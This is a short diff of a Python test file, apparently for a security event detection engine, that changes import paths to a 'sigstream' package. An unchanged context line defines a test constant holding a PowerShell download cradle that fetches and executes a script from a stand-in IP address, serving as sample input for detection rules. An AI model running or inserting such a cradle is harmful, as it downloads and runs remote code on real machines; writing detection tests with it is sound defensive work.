@@ -7,9 +7,9 @@ import time
 
 import pytest
 
-from stream import enrich as E
-from stream.engine import Engine
-from stream.rules import load_rule_text
+from sigstream.stream import enrich as E
+from sigstream.stream.engine import Engine
+from sigstream.stream.rules import load_rule_text
 
 CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')"
 
